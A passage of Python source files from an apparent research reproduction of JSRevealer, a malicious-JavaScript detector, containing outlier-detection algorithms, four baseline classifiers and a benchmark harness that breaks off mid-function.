        "knn_largest": lambda: KNNOutlier(n_neighbors=10, method="largest", contamination=contamination),
        "iforest": lambda: IsolationForest(n_estimators=40, random_state=0, contamination=contamination),
    }


#: Preference order for consensus near-ties, standing in for MetaOD's
#: meta-learned performance predictor.  MetaOD's published benchmark study
#: ranks the ABOD family highly on dense, clustered, higher-dimensional
#: clouds (the shape of path-embedding vectors); the proximity family
#: follows, and isolation forests trail on such data.
_TIE_BREAK_PRIORITY = ("fast_abod", "lof", "knn_mean", "knn_largest", "iforest")

#: Two candidates whose consensus correlations differ by less than this are
#: treated as statistically indistinguishable and resolved by the prior.
_TIE_MARGIN = 0.08


def select_detector(
    X,
    contamination: float = 0.1,
    candidates: dict[str, Callable[[], BaseOutlierDetector]] | None = None,
    max_samples: int = 512,
    rng: np.random.Generator | None = None,
) -> SelectionResult:
    """Pick the outlier detector whose scores best match the zoo consensus.

    Each candidate is fit on (a subsample of) ``X``; score vectors are rank
    -normalized; each candidate's Spearman correlation against the mean rank
    of the *other* candidates is its consensus score.  Candidates within
    ``_TIE_MARGIN`` of the best consensus are near-ties and are resolved by
    the benchmark-derived prior order — the stand-in for MetaOD's
    meta-learned regressor (see module docstring).
    """
    X = np.asarray(X, dtype=float)
    if rng is None:
        rng = np.random.default_rng(0)
    if len(X) > max_samples:
        X = X[rng.choice(len(X), size=max_samples, replace=False)]

    if candidates is None:
        candidates = default_candidates(contamination)

    ranked: dict[str, np.ndarray] = {}
    fitted: dict[str, BaseOutlierDetector] = {}
    for name, factory in candidates.items():
        detector = factory()
        detector.fit(X)
        fitted[name] = detector
        ranked[name] = stats.rankdata(detector.decision_scores_)

    names = list(ranked)
    consensus: dict[str, float] = {}
    if len(names) == 1:
        consensus[names[0]] = 1.0
    else:
        for name in names:
            others = [ranked[o] for o in names if o != name]
            mean_other = np.mean(others, axis=0)
            rho = stats.spearmanr(ranked[name], mean_other).statistic
            consensus[name] = float(rho) if np.isfinite(rho) else 0.0

    top = max(consensus.values())
    near_ties = [name for name, score in consensus.items() if score >= top - _TIE_MARGIN]
    priority = {name: i for i, name in enumerate(_TIE_BREAK_PRIORITY)}
    best_name = min(near_ties, key=lambda n: (priority.get(n, len(priority)), -consensus[n]))
    return SelectionResult(
        best_name=best_name,
        best_detector=fitted[best_name],
        consensus_scores=consensus,
        meta_features=MetaFeatures.of(X),
    )
