"""Fast Angle-Based Outlier Detection (FastABOD).

The detector the paper's MetaOD run selected (Sec. III-D).  ABOD scores a
point by the variance of the angles it forms with pairs of other points:
inliers, surrounded on all sides, see a wide spread of angles; outliers see
all other points within a narrow cone, so their angle variance is small.
FastABOD approximates the full pairwise computation by using only each
point's k nearest neighbors.

The decision score is the *negated* angle-variance so that, as for every
other detector here, higher = more anomalous.
"""

from __future__ import annotations

import numpy as np

from .base import BaseOutlierDetector, knn_indices


class FastABOD(BaseOutlierDetector):
    """Approximate angle-based outlier factor over k-NN neighborhoods.

    Args:
        n_neighbors: Neighborhood size used in the approximation.
        contamination: Expected outlier fraction (thresholding quantile).
    """

    def __init__(self, n_neighbors: int = 10, contamination: float = 0.1):
        super().__init__(contamination)
        if n_neighbors < 2:
            raise ValueError("n_neighbors must be >= 2")
        self.n_neighbors = n_neighbors

    def _score(self, X: np.ndarray) -> np.ndarray:
        n = len(X)
        neighbors = knn_indices(X, self.n_neighbors)
        k = neighbors.shape[1]
        if k < 2:
            return np.zeros(n)

        # Vectorized over all points: diffs[i, j] = X[neighbors[i, j]] - X[i].
        diffs = X[neighbors] - X[:, None, :]  # (n, k, d)
        norms = np.linalg.norm(diffs, axis=2)  # (n, k)
        safe_norms = np.where(norms > 1e-12, norms, 1.0)

        dot = np.einsum("ikd,ild->ikl", diffs, diffs)  # (n, k, k)
        norm_prod = safe_norms[:, :, None] * safe_norms[:, None, :]
        cos = dot / (norm_prod * norm_prod)
        weights = 1.0 / norm_prod

        # Mask the diagonal and any degenerate (zero-norm) pairs, then take
        # the upper triangle of each point's k×k pair matrix.
        valid = (norms[:, :, None] > 1e-12) & (norms[:, None, :] > 1e-12)
        iu = np.triu_indices(k, k=1)
        pair_cos = cos[:, iu[0], iu[1]]  # (n, k*(k-1)/2)
        pair_w = weights[:, iu[0], iu[1]] * valid[:, iu[0], iu[1]]

        total_w = pair_w.sum(axis=1)
        safe_total = np.where(total_w > 0, total_w, 1.0)
        mean = (pair_w * pair_cos).sum(axis=1) / safe_total
        var = (pair_w * (pair_cos - mean[:, None]) ** 2).sum(axis=1) / safe_total
        var = np.where(total_w > 0, var, 0.0)
        return -var

    @staticmethod
    def _angle_variance(X: np.ndarray, i: int, neighborhood: np.ndarray) -> float:
        """Weighted variance of angles point i forms with neighbor pairs.

        Following Kriegel et al., each angle cosine is weighted by the
        inverse product of the two difference-vector norms, emphasizing
        close neighbors.
        """
        diffs = X[neighborhood] - X[i]
        norms = np.linalg.norm(diffs, axis=1)
        valid = norms > 1e-12
        diffs, norms = diffs[valid], norms[valid]
        m = len(diffs)
        if m < 2:
            return 0.0

        # All pairwise dot products and norm products in one shot.
        dot = diffs @ diffs.T
        norm_prod = np.outer(norms, norms)
        iu = np.triu_indices(m, k=1)
        cos = dot[iu] / (norm_prod[iu] * norm_prod[iu])  # cos/(|a||b|) weighting
        weights = 1.0 / norm_prod[iu]
        total_weight = weights.sum()
        if total_weight <= 0:
            return 0.0
        mean = float(np.sum(weights * cos) / total_weight)
        var = float(np.sum(weights * (cos - mean) ** 2) / total_weight)
        return var
