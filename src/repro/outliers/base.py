"""Shared contract for outlier detectors (PyOD-style fit / labels_ API).

All detectors score every training sample (higher = more anomalous), then
threshold the scores at the ``contamination`` quantile, producing binary
``labels_`` (1 = outlier) exactly like PyOD does.
"""

from __future__ import annotations

import numpy as np


class BaseOutlierDetector:
    """Base class implementing the contamination-quantile thresholding."""

    def __init__(self, contamination: float = 0.1):
        if not 0.0 < contamination < 0.5:
            raise ValueError("contamination must be in (0, 0.5)")
        self.contamination = contamination
        self.decision_scores_: np.ndarray | None = None
        self.threshold_: float = np.inf
        self.labels_: np.ndarray | None = None

    def fit(self, X) -> "BaseOutlierDetector":
        X = np.asarray(X, dtype=float)
        if X.ndim != 2:
            raise ValueError("X must be 2-D")
        if len(X) < 2:
            raise ValueError("need at least 2 samples")
        self.decision_scores_ = self._score(X)
        self.threshold_ = float(np.quantile(self.decision_scores_, 1.0 - self.contamination))
        self.labels_ = (self.decision_scores_ > self.threshold_).astype(int)
        return self

    def _score(self, X: np.ndarray) -> np.ndarray:  # pragma: no cover - abstract
        raise NotImplementedError

    def inliers(self, X) -> np.ndarray:
        """Fit on X and return the inlier rows (the paper's usage pattern)."""
        self.fit(X)
        assert self.labels_ is not None
        return np.asarray(X, dtype=float)[self.labels_ == 0]


def pairwise_sq_distances(X: np.ndarray, Y: np.ndarray | None = None) -> np.ndarray:
    """Squared Euclidean distance matrix between rows of X and Y."""
    if Y is None:
        Y = X
    x_sq = np.sum(X**2, axis=1)[:, None]
    y_sq = np.sum(Y**2, axis=1)[None, :]
    return np.maximum(x_sq + y_sq - 2.0 * (X @ Y.T), 0.0)


def knn_indices(X: np.ndarray, k: int, chunk: int = 2048) -> np.ndarray:
    """Indices of each row's k nearest neighbors (self excluded).

    Computed in row chunks so the distance matrix never exceeds
    ``chunk × n`` entries.
    """
    n = len(X)
    k = min(k, n - 1)
    out = np.empty((n, k), dtype=np.intp)
    for start in range(0, n, chunk):
        stop = min(start + chunk, n)
        distances = pairwise_sq_distances(X[start:stop], X)
        rows = np.arange(start, stop)
        distances[rows - start, rows] = np.inf  # exclude self
        part = np.argpartition(distances, k, axis=1)[:, :k]
        # Order the k selected neighbors by distance.
        part_d = np.take_along_axis(distances, part, axis=1)
        order = np.argsort(part_d, axis=1)
        out[start:stop] = np.take_along_axis(part, order, axis=1)
    return out
