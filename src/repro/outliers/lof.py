"""Local Outlier Factor (LOF) — one of the MetaOD candidate detectors."""

from __future__ import annotations

import numpy as np

from .base import BaseOutlierDetector, pairwise_sq_distances


class LOF(BaseOutlierDetector):
    """Density-ratio outlier scores over k-NN neighborhoods.

    A point whose local density is much lower than its neighbors' densities
    gets a LOF score well above 1.
    """

    def __init__(self, n_neighbors: int = 10, contamination: float = 0.1):
        super().__init__(contamination)
        if n_neighbors < 1:
            raise ValueError("n_neighbors must be >= 1")
        self.n_neighbors = n_neighbors

    def _score(self, X: np.ndarray) -> np.ndarray:
        n = len(X)
        k = min(self.n_neighbors, n - 1)
        distances = np.sqrt(pairwise_sq_distances(X))
        np.fill_diagonal(distances, np.inf)

        neighbor_idx = np.argsort(distances, axis=1)[:, :k]
        knn_dist = np.take_along_axis(distances, neighbor_idx, axis=1)
        k_distance = knn_dist[:, -1]  # distance to the k-th neighbor

        # Reachability distance: max(d(p, o), k_distance(o)).
        reach = np.maximum(knn_dist, k_distance[neighbor_idx])
        lrd = k / np.maximum(reach.sum(axis=1), 1e-12)  # local reachability density

        neighbor_lrd = lrd[neighbor_idx]
        lof = neighbor_lrd.mean(axis=1) / np.maximum(lrd, 1e-12)
        return lof
