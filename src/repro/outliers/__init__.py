"""Outlier detection substrate (PyOD + MetaOD substitute).

Provides FastABOD (the detector the paper uses), a small zoo of
alternatives (LOF, kNN, IsolationForest), and a MetaOD-style consensus
selector.
"""

from .abod import FastABOD
from .base import BaseOutlierDetector, knn_indices, pairwise_sq_distances
from .iforest import IsolationForest
from .knn import KNNOutlier
from .lof import LOF
from .metaod import MetaFeatures, SelectionResult, default_candidates, select_detector

__all__ = [
    "FastABOD",
    "BaseOutlierDetector",
    "knn_indices",
    "pairwise_sq_distances",
    "IsolationForest",
    "KNNOutlier",
    "LOF",
    "MetaFeatures",
    "SelectionResult",
    "default_candidates",
    "select_detector",
]
