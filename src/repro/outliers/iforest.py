"""Isolation Forest — MetaOD candidate detector."""

from __future__ import annotations

import numpy as np

from .base import BaseOutlierDetector


def _average_path_length(n: int) -> float:
    """Expected path length of an unsuccessful BST search (c(n))."""
    if n <= 1:
        return 0.0
    harmonic = np.log(n - 1) + np.euler_gamma
    return 2.0 * harmonic - 2.0 * (n - 1) / n


class _IsolationTree:
    __slots__ = ("feature", "threshold", "left", "right", "size")

    def __init__(self, X: np.ndarray, depth: int, max_depth: int, rng: np.random.Generator):
        self.size = len(X)
        self.feature = -1
        self.threshold = 0.0
        self.left: _IsolationTree | None = None
        self.right: _IsolationTree | None = None
        if depth >= max_depth or len(X) <= 1:
            return
        spans = X.max(axis=0) - X.min(axis=0)
        candidates = np.flatnonzero(spans > 0)
        if candidates.size == 0:
            return
        self.feature = int(rng.choice(candidates))
        lo, hi = X[:, self.feature].min(), X[:, self.feature].max()
        self.threshold = float(rng.uniform(lo, hi))
        mask = X[:, self.feature] < self.threshold
        self.left = _IsolationTree(X[mask], depth + 1, max_depth, rng)
        self.right = _IsolationTree(X[~mask], depth + 1, max_depth, rng)

    def path_length(self, x: np.ndarray, depth: int = 0) -> float:
        if self.left is None or self.right is None:
            return depth + _average_path_length(self.size)
        child = self.left if x[self.feature] < self.threshold else self.right
        return child.path_length(x, depth + 1)


class IsolationForest(BaseOutlierDetector):
    """Ensemble of random isolation trees; short average paths = anomalous."""

    def __init__(
        self,
        n_estimators: int = 50,
        max_samples: int = 256,
        contamination: float = 0.1,
        random_state: int | None = None,
    ):
        super().__init__(contamination)
        if n_estimators < 1:
            raise ValueError("n_estimators must be >= 1")
        self.n_estimators = n_estimators
        self.max_samples = max_samples
        self.random_state = random_state

    def _score(self, X: np.ndarray) -> np.ndarray:
        rng = np.random.default_rng(self.random_state)
        n = len(X)
        sample_size = min(self.max_samples, n)
        max_depth = int(np.ceil(np.log2(max(sample_size, 2))))
        trees = []
        for _ in range(self.n_estimators):
            indices = rng.choice(n, size=sample_size, replace=False)
            trees.append(_IsolationTree(X[indices], 0, max_depth, rng))

        c = _average_path_length(sample_size)
        scores = np.empty(n)
        for i, row in enumerate(X):
            mean_path = np.mean([tree.path_length(row) for tree in trees])
            scores[i] = 2.0 ** (-mean_path / max(c, 1e-12))
        return scores
