"""k-NN distance outlier detector — MetaOD candidate."""

from __future__ import annotations

import numpy as np

from .base import BaseOutlierDetector, pairwise_sq_distances


class KNNOutlier(BaseOutlierDetector):
    """Scores each point by its (mean or max) distance to k nearest neighbors."""

    def __init__(self, n_neighbors: int = 10, method: str = "mean", contamination: float = 0.1):
        super().__init__(contamination)
        if n_neighbors < 1:
            raise ValueError("n_neighbors must be >= 1")
        if method not in ("mean", "largest"):
            raise ValueError("method must be 'mean' or 'largest'")
        self.n_neighbors = n_neighbors
        self.method = method

    def _score(self, X: np.ndarray) -> np.ndarray:
        n = len(X)
        k = min(self.n_neighbors, n - 1)
        distances = np.sqrt(pairwise_sq_distances(X))
        np.fill_diagonal(distances, np.inf)
        knn_dist = np.sort(distances, axis=1)[:, :k]
        if self.method == "mean":
            return knn_dist.mean(axis=1)
        return knn_dist[:, -1]
