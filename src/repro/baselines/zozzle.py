"""ZOZZLE baseline.

Curtsinger et al.'s ZOZZLE builds *hierarchical AST features*: each feature
is the pair (AST context, text), where the context is the kind of the
enclosing construct (expression / variable declaration / function / loop /
conditional / try) and the text is the code fragment under it.  Features
are boolean (presence) and classified with naive Bayes after a chi-squared
feature selection.  We re-implement that pipeline:

* features: ``context:token`` pairs — for every identifier/literal leaf,
  pair its text with the type of the nearest statement-level ancestor,
* chi-squared feature selection against the class label (ZOZZLE selects
  the most predictive features before classifying),
* Bernoulli naive Bayes over the selected boolean features.

Because features couple *AST context* with *literal text*, renaming or
string-rewriting obfuscation breaks the learned (context, text) pairs and
malicious samples slip through — the FNR blow-up the paper reports.
"""

from __future__ import annotations

import numpy as np

from repro.jsparser import parse, walk_with_parent
from repro.ml import BernoulliNB, CountVectorizer

from .base import BaselineDetector, safe_parse_tokens

_CONTEXT_TYPES = (
    "VariableDeclaration",
    "IfStatement",
    "ForStatement",
    "ForInStatement",
    "WhileStatement",
    "DoWhileStatement",
    "TryStatement",
    "FunctionDeclaration",
    "FunctionExpression",
    "ReturnStatement",
    "ExpressionStatement",
)


@safe_parse_tokens
def _context_features(source: str) -> list[str]:
    program = parse(source)
    parent_of = {}
    features: list[str] = []
    for node, parent in walk_with_parent(program):
        parent_of[id(node)] = parent
        text = None
        if node.type == "Identifier":
            text = node.name
        elif node.type == "Literal" and isinstance(getattr(node, "value", None), str):
            text = node.value[:40]
        if text is None:
            continue
        context = "Program"
        cursor = parent
        while cursor is not None:
            if cursor.type in _CONTEXT_TYPES:
                context = cursor.type
                break
            cursor = parent_of.get(id(cursor))
        features.append(f"{context}:{text}")
    return features


class ZOZZLE(BaselineDetector):
    """ZOZZLE: (AST context, text) boolean features + chi² + Bernoulli NB.

    Args:
        max_features: Candidate vocabulary size (frequency-capped) before
            chi-squared selection.
        selected_features: Features kept by the chi-squared test — the
            original system hand-tunes around 10³ predictive features.
    """

    name = "zozzle"

    def __init__(self, max_features: int = 8192, selected_features: int = 1000):
        self.vectorizer = CountVectorizer(max_features=max_features, binary=True)
        self.selected_features = selected_features
        self.classifier = BernoulliNB(alpha=1.0, binarize=None)
        self._selected: np.ndarray | None = None

    def fit(self, sources: list[str], labels) -> "ZOZZLE":
        from repro.ml.feature_selection import select_top_k

        labels = np.asarray(labels, dtype=int)
        documents = [_context_features(source) for source in sources]
        X = self.vectorizer.fit_transform(documents)
        self._selected = select_top_k(X, labels, self.selected_features)
        self.classifier.fit(X[:, self._selected], labels)
        return self

    def predict(self, sources: list[str]) -> np.ndarray:
        if self._selected is None:
            raise RuntimeError("ZOZZLE used before fit()")
        documents = [_context_features(source) for source in sources]
        X = self.vectorizer.transform(documents)
        return self.classifier.predict(X[:, self._selected])
