"""Shared contract for the four comparison detectors.

Each baseline follows its published feature pipeline (token n-grams, AST
features, PDG n-grams) and exposes the same fit/predict interface as
:class:`repro.core.JSRevealer`, so the comparison benches can run all five
detectors under one protocol.
"""

from __future__ import annotations

import numpy as np

from repro.jsparser import JSSyntaxError
from repro.paths import ExtractionError


class BaselineDetector:
    """fit(sources, labels) / predict(sources) over JavaScript source text."""

    name: str = "baseline"

    def _features(self, sources: list[str]) -> np.ndarray:  # pragma: no cover
        raise NotImplementedError

    def fit(self, sources: list[str], labels) -> "BaselineDetector":  # pragma: no cover
        raise NotImplementedError

    def predict(self, sources: list[str]) -> np.ndarray:  # pragma: no cover
        raise NotImplementedError


def safe_parse_tokens(fn):
    """Decorator-style helper: run ``fn(source)``, return [] on bad input.

    Real corpora include unparseable fragments; every published baseline
    skips them rather than crashing, and an empty feature stream classifies
    from priors alone.
    """

    def wrapped(source: str):
        try:
            return fn(source)
        except (JSSyntaxError, ExtractionError, RecursionError):
            return []

    return wrapped
