"""CUJO baseline (static part).

Rieck et al.'s CUJO extracts *token n-grams* from a lexical pass over the
script (their ``Q``-grams over a simplified token stream) and classifies
with a linear SVM.  The paper compares only against CUJO's static analysis
stage, re-implemented by Fass et al.; we follow the same design:

* lexical analysis with token abstraction — identifiers become ``ID``,
  strings ``STR``, numbers ``NUM`` (CUJO's report normalizes this way),
* 4-grams over the abstracted token sequence (CUJO's default q=4),
* feature hashing into a fixed-width vector,
* linear SVM.

Because the features are *token-order* based, obfuscators that reorder or
rewrite tokens inflate CUJO's false positives — the failure signature the
paper's Fig. 6 shows.
"""

from __future__ import annotations

import numpy as np

from repro.jsparser import TokenType, tokenize
from repro.ml import HashingVectorizer, LinearSVC, ngrams

from .base import BaselineDetector, safe_parse_tokens


def _abstract_token(token) -> str:
    if token.type is TokenType.IDENTIFIER:
        return "ID"
    if token.type is TokenType.STRING or token.type is TokenType.TEMPLATE:
        return "STR"
    if token.type is TokenType.NUMERIC:
        return "NUM"
    if token.type is TokenType.REGEXP:
        return "REGEX"
    return token.value  # keywords and punctuators keep their spelling


@safe_parse_tokens
def _token_stream(source: str) -> list[str]:
    return [_abstract_token(t) for t in tokenize(source)[:-1]]


class CUJO(BaselineDetector):
    """Static CUJO: abstracted token 4-grams + linear SVM.

    Args:
        n: n-gram order (CUJO default: 4).
        n_features: Hashed feature width.
        seed: SVM sampling seed.
    """

    name = "cujo"

    def __init__(self, n: int = 4, n_features: int = 4096, seed: int = 0):
        self.n = n
        self.vectorizer = HashingVectorizer(n_features=n_features)
        self.classifier = LinearSVC(C=1.0, n_iter=15, random_state=seed)

    def _features(self, sources: list[str]) -> np.ndarray:
        documents = [ngrams(_token_stream(source), self.n) for source in sources]
        return self.vectorizer.transform(documents)

    def fit(self, sources: list[str], labels) -> "CUJO":
        self.classifier.fit(self._features(sources), np.asarray(labels, dtype=int))
        return self

    def predict(self, sources: list[str]) -> np.ndarray:
        return self.classifier.predict(self._features(sources))
