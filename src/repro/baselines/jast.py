"""JAST baseline.

Fass et al.'s JAST traverses the AST in depth-first pre-order, records the
sequence of *syntactic unit* names (the ESTree node types), extracts
n-grams of that sequence (their production configuration uses n=4), and
classifies the n-gram frequency vectors with a random forest.

Because the features are purely structural (node types only — no names,
no values), JAST is immune to renaming but highly sensitive to transforms
that change AST shape (control-flow flattening, call fogging, string
splitting), which is the mixed FPR/FNR behavior the paper reports.
"""

from __future__ import annotations

import numpy as np

from repro.jsparser import parse, walk
from repro.ml import CountVectorizer, RandomForestClassifier, ngrams

from .base import BaselineDetector, safe_parse_tokens


@safe_parse_tokens
def _unit_sequence(source: str) -> list[str]:
    return [node.type for node in walk(parse(source))]


class JAST(BaselineDetector):
    """JAST: AST syntactic-unit n-grams + random forest.

    Args:
        n: n-gram order (JAST production default: 4).
        max_features: Vocabulary cap (frequency pruning).
        seed: Forest seed.
    """

    name = "jast"

    def __init__(self, n: int = 4, max_features: int = 4096, seed: int = 0):
        self.n = n
        self.vectorizer = CountVectorizer(max_features=max_features)
        self.classifier = RandomForestClassifier(n_estimators=40, random_state=seed)

    def fit(self, sources: list[str], labels) -> "JAST":
        documents = [ngrams(_unit_sequence(source), self.n) for source in sources]
        X = self.vectorizer.fit_transform(documents)
        # Frequency vectors normalized by document length, as JAST does.
        X = _normalize_rows(X)
        self.classifier.fit(X, np.asarray(labels, dtype=int))
        return self

    def predict(self, sources: list[str]) -> np.ndarray:
        documents = [ngrams(_unit_sequence(source), self.n) for source in sources]
        X = _normalize_rows(self.vectorizer.transform(documents))
        return self.classifier.predict(X)


def _normalize_rows(X: np.ndarray) -> np.ndarray:
    totals = X.sum(axis=1, keepdims=True)
    return X / np.where(totals == 0, 1.0, totals)
