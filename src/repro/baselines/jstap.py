"""JSTAP baseline (pdg abstraction, n-grams feature).

Fass et al.'s JSTAP generalizes lexical/AST pipelines with control- and
data-flow information.  The paper compares against JSTAP's *PDG code
abstraction with the n-grams feature*: walk the program dependence graph,
record node-type sequences along dependence edges, extract n-grams, and
classify with a random forest.

We re-implement that pipeline on :mod:`repro.dataflow.pdg`: for every PDG
edge (control or data), emit the n-grams of the concatenated node-type
spines of its endpoints' subtree walks (depth-limited), plus edge-kind
markers.  JSTAP extracts a very large n-gram population; under obfuscation
the malicious-indicative n-grams get diluted — the FNR failure signature
of the paper's Fig. 6.
"""

from __future__ import annotations

import numpy as np

from repro.dataflow import build_pdg
from repro.jsparser import parse, walk
from repro.ml import CountVectorizer, RandomForestClassifier, ngrams

from .base import BaselineDetector, safe_parse_tokens

_SUBTREE_LIMIT = 12  # nodes per statement spine, keeps grams local


def _spine(stmt) -> list[str]:
    out = []
    for node in walk(stmt):
        out.append(node.type)
        if len(out) >= _SUBTREE_LIMIT:
            break
    return out


@safe_parse_tokens
def _pdg_grams(source: str) -> list[str]:
    program = parse(source)
    pdg = build_pdg(program)
    documents: list[str] = []
    for u, v, data in pdg.graph.edges(data=True):
        kind = data.get("kind", "flow")
        seq = _spine(pdg.node_of[u]) + [f"--{kind}-->"] + _spine(pdg.node_of[v])
        documents.extend(ngrams(seq, 4))
    # Statements with no dependence edges still contribute local structure.
    for stmt in pdg.statements:
        documents.extend(ngrams(_spine(stmt), 4))
    return documents


@safe_parse_tokens
def _token_grams(source: str) -> list[str]:
    """JSTAP's *tokens* abstraction: lexical unit n-grams."""
    from repro.jsparser import tokenize

    units = [t.type.value for t in tokenize(source)[:-1]]
    return ngrams(units, 4)


@safe_parse_tokens
def _ast_grams(source: str) -> list[str]:
    """JSTAP's *ast* abstraction: pre-order node-type n-grams."""
    units = [node.type for node in walk(parse(source))]
    return ngrams(units, 4)


@safe_parse_tokens
def _cfg_grams(source: str) -> list[str]:
    """JSTAP's *cfg* abstraction: n-grams along control-flow edges."""
    from repro.dataflow import build_cfg

    cfg = build_cfg(parse(source))
    documents: list[str] = []
    for u, v, data in cfg.graph.edges(data=True):
        kind = data.get("kind", "flow")
        seq = _spine(cfg.node_of[u]) + [f"--{kind}-->"] + _spine(cfg.node_of[v])
        documents.extend(ngrams(seq, 4))
    return documents


_ABSTRACTIONS = {
    "tokens": _token_grams,
    "ast": _ast_grams,
    "cfg": _cfg_grams,
    "pdg": _pdg_grams,
}


class JSTAP(BaselineDetector):
    """JSTAP: multi-level code abstraction n-grams + random forest.

    The published system offers several abstraction levels; the paper
    compares against the **pdg** level with the n-grams feature, which is
    the default here.  The other levels are provided for completeness.

    Args:
        abstraction: "tokens" | "ast" | "cfg" | "pdg".
        max_features: Vocabulary cap.
        seed: Forest seed.
    """

    name = "jstap"

    def __init__(self, abstraction: str = "pdg", max_features: int = 8192, seed: int = 0):
        if abstraction not in _ABSTRACTIONS:
            raise ValueError(f"unknown abstraction {abstraction!r}; pick from {sorted(_ABSTRACTIONS)}")
        self.abstraction = abstraction
        self._featurize = _ABSTRACTIONS[abstraction]
        self.vectorizer = CountVectorizer(max_features=max_features)
        self.classifier = RandomForestClassifier(n_estimators=40, random_state=seed)

    def fit(self, sources: list[str], labels) -> "JSTAP":
        documents = [self._featurize(source) for source in sources]
        X = self.vectorizer.fit_transform(documents)
        self.classifier.fit(X, np.asarray(labels, dtype=int))
        return self

    def predict(self, sources: list[str]) -> np.ndarray:
        documents = [self._featurize(source) for source in sources]
        return self.classifier.predict(self.vectorizer.transform(documents))
