"""The four comparison detectors: CUJO, ZOZZLE, JAST, JSTAP.

Each follows its published feature pipeline and exposes the fit/predict
contract of :class:`repro.baselines.base.BaselineDetector`.
"""

from .base import BaselineDetector
from .cujo import CUJO
from .jast import JAST
from .jstap import JSTAP
from .zozzle import ZOZZLE

ALL_BASELINES = {
    "cujo": CUJO,
    "zozzle": ZOZZLE,
    "jast": JAST,
    "jstap": JSTAP,
}

__all__ = ["BaselineDetector", "CUJO", "JAST", "JSTAP", "ZOZZLE", "ALL_BASELINES"]
