"""JSRevealer reproduction: obfuscation-robust malicious JavaScript detection.

Reproduces Ren et al., "JSRevealer: A Robust Malicious JavaScript Detector
against Obfuscation" (DSN 2023), including every substrate: a JavaScript
front end, data-flow analyses, an ML toolkit, outlier detection, the four
obfuscators, and the four comparison detectors.

Primary entry points::

    from repro import JSRevealer, JSRevealerConfig
    from repro.datasets import experiment_split
    from repro.obfuscation import ALL_OBFUSCATORS
    from repro.baselines import ALL_BASELINES
"""

from .core import JSRevealer, JSRevealerConfig
from .pipeline import BatchScanner, FeatureCache, ScanReport, ScanResult

__version__ = "1.0.0"

__all__ = [
    "JSRevealer",
    "JSRevealerConfig",
    "BatchScanner",
    "FeatureCache",
    "ScanReport",
    "ScanResult",
    "__version__",
]
