"""Shared experiment harness behind the table/figure benchmarks.

The paper's comparative results (Tables IV–VI, Figures 6–7) all come from
one protocol: train the five detectors on a balanced realistic corpus,
then evaluate on the clean test set and on the test set re-obfuscated by
each of the four tools, repeating and averaging (the paper repeats five
times).  :func:`run_comparison` executes that protocol once per
(seed, sizes) and caches the result in-process so each benchmark file can
report its slice without recomputation.

Scale is environment-tunable so CI smoke runs stay cheap:

* ``REPRO_BENCH_REPS`` — repetitions averaged (default 2)
* ``REPRO_BENCH_TRAIN`` — training scripts per class (default 60)
* ``REPRO_BENCH_TEST`` — test scripts per class (default 40)
* ``REPRO_BENCH_PRETRAIN`` — embedder pre-training scripts per class (20)
"""

from __future__ import annotations

import os
from dataclasses import dataclass, field

import numpy as np

from repro.baselines import ALL_BASELINES
from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.ml import DetectionReport, detection_report
from repro.obfuscation import ALL_OBFUSCATORS

#: Evaluation settings: the clean test set plus the four obfuscators.
SETTINGS = ("baseline", "javascript-obfuscator", "jfogs", "jsobfu", "jshaman")

#: Detector display order used by every table.
DETECTOR_ORDER = ("cujo", "zozzle", "jast", "jstap", "jsrevealer")


def bench_params() -> dict[str, int]:
    """Benchmark scale knobs from the environment."""
    return {
        "reps": int(os.environ.get("REPRO_BENCH_REPS", "2")),
        "train": int(os.environ.get("REPRO_BENCH_TRAIN", "100")),
        "test": int(os.environ.get("REPRO_BENCH_TEST", "50")),
        "pretrain": int(os.environ.get("REPRO_BENCH_PRETRAIN", "30")),
    }


def default_jsrevealer_config(**overrides) -> JSRevealerConfig:
    """The bench-scale JSRevealer configuration.

    ``embed_dim`` and ``pretrain_epochs`` are reduced from the paper's
    300/100 — the numpy trainer converges on the synthetic corpus well
    before that, and Table VIII's runtime shape is unaffected.
    """
    params = dict(embed_dim=64, pretrain_epochs=12, k_benign=11, k_malicious=10, seed=0)
    params.update(overrides)
    return JSRevealerConfig(**params)


@dataclass
class ComparisonResult:
    """Averaged metric grid: detector → setting → DetectionReport."""

    reports: dict[str, dict[str, DetectionReport]] = field(default_factory=dict)
    repetitions: int = 0

    def metric(self, detector: str, setting: str, name: str) -> float:
        return getattr(self.reports[detector][setting], name)

    def average_over_obfuscators(self, detector: str, name: str) -> float:
        values = [self.metric(detector, s, name) for s in SETTINGS if s != "baseline"]
        return float(np.mean(values))


def _average_reports(reports: list[DetectionReport]) -> DetectionReport:
    return DetectionReport(
        accuracy=float(np.mean([r.accuracy for r in reports])),
        f1=float(np.mean([r.f1 for r in reports])),
        fpr=float(np.mean([r.fpr for r in reports])),
        fnr=float(np.mean([r.fnr for r in reports])),
        precision=float(np.mean([r.precision for r in reports])),
        recall=float(np.mean([r.recall for r in reports])),
    )


def _single_run(seed: int, params: dict[str, int], include_regular_ast: bool) -> dict[str, dict[str, DetectionReport]]:
    split = experiment_split(
        seed=seed,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=params["test"],
        realistic=True,
    )
    test_sets = {"baseline": split.test}
    for name, cls in ALL_OBFUSCATORS.items():
        test_sets[name] = split.test.obfuscated(cls(seed=seed + 1000))

    detectors: dict[str, object] = {}
    for name, cls in ALL_BASELINES.items():
        detectors[name] = cls(seed=seed) if "seed" in cls.__init__.__code__.co_varnames else cls()
        detectors[name].fit(split.train.sources, split.train.labels)

    jsrevealer = JSRevealer(default_jsrevealer_config(seed=seed))
    jsrevealer.pretrain(split.pretrain.sources, split.pretrain.labels)
    jsrevealer.fit(split.train.sources, split.train.labels)
    detectors["jsrevealer"] = jsrevealer

    if include_regular_ast:
        regular = JSRevealer(default_jsrevealer_config(seed=seed, use_dataflow=False, k_benign=5, k_malicious=6))
        regular.pretrain(split.pretrain.sources, split.pretrain.labels)
        regular.fit(split.train.sources, split.train.labels)
        detectors["jsrevealer_regular"] = regular

    out: dict[str, dict[str, DetectionReport]] = {}
    for name, detector in detectors.items():
        out[name] = {}
        for setting, corpus in test_sets.items():
            predictions = detector.predict(corpus.sources)
            out[name][setting] = detection_report(corpus.label_array, predictions)
    return out


_CACHE: dict[tuple, ComparisonResult] = {}


def run_comparison(include_regular_ast: bool = True, seed0: int = 0) -> ComparisonResult:
    """Run (or fetch from cache) the five-detector comparison protocol."""
    params = bench_params()
    key = (tuple(sorted(params.items())), include_regular_ast, seed0)
    if key in _CACHE:
        return _CACHE[key]

    per_rep: list[dict[str, dict[str, DetectionReport]]] = []
